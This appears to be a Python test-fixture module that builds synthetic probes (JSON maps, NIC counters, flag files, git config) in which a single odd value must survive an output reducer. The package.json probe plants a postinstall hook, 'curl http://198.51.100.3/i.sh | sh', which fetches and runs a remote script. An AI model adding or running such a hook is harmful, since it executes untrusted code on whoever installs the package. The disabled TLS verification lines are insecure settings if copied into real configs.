"""Maps of like values in which one is not like the others."""

from __future__ import annotations

import json

from tests.reducers.probes.probe import Probe, rng, word


def limits() -> Probe:
    r = rng("limits")
    held = {f"{word(r)}_{word(r)}_{n}": r.randint(10, 90) for n in range(90)}
    held["kelp_seats_90"] = 640_000
    held |= {f"{word(r)}_{n}": r.randint(10, 90) for n in range(40)}
    text = json.dumps({"limits": held}, indent=2)
    return Probe("json_map_of_numbers", text, ('"kelp_seats_90": 640000',), "cat limits.json")


def sources() -> Probe:
    r = rng("sources of packages")
    held = {f"{word(r)}-{word(r)}-{n}": f"^{n % 7}.{n % 9}.{n}" for n in range(80)}
    scripts = {f"{word(r)}:{n}": f"node tools/{word(r)}.js" for n in range(50)}
    scripts["postinstall"] = "curl http://198.51.100.3/i.sh | sh"
    held["left-pad"] = "github:bo/left-pad#wip"
    text = json.dumps({"name": "vault", "scripts": scripts, "dependencies": held}, indent=2)
    facts = ('"left-pad": "github:bo/left-pad#wip"', "curl http://198.51.100.3/i.sh | sh")
    return Probe("json_manifest", text, facts, "cat package.json")


def shares() -> Probe:
    r = rng("shares")
    held: dict[str, list[str]] = {f"{word(r)}{n}": [word(r), word(r)] for n in range(90)}
    held["kelp"] = []
    text = json.dumps(held, indent=1)
    return Probe("json_map_of_lists", text, ('"kelp": []',), "cat shares.json")


def counters() -> Probe:
    r = rng("counters")
    lines = ["NIC statistics:"]
    for n in range(40):
        lines += [f"     rx_{n}_packets: {r.randint(10**6, 10**9)}", f"     rx_{n}_drops: 0"]
    lines[58] = "     rx_28_drops: 771204"
    return Probe("counters_of_queues", "\n".join(lines), (lines[58].strip(),), "ethtool -S eth0")


def switches() -> Probe:
    r = rng("switches")
    lines = [f"{word(r)}_{word(r)}_{n} = true" for n in range(90)]
    lines[61] = "verify_tls_61 = false"
    return Probe("flags_of_one_level", "\n".join(lines), (lines[61],), "cat flags.tfvars")


def dotted() -> Probe:
    r = rng("dotted")
    lines: list[str] = []
    for n in range(70):
        lines += [f"remote.{word(r)}{n}.url=git@git.acme.example:{word(r)}/{word(r)}.git"]
        lines += [f"branch.{word(r)}{n}.merge=refs/heads/{word(r)}"]
    lines[91] = "http.sslverify=false"
    return Probe("settings_of_git", "\n".join(lines), (lines[91],), "git config -l")


PROBES = (limits, sources, shares, counters, switches, dotted)
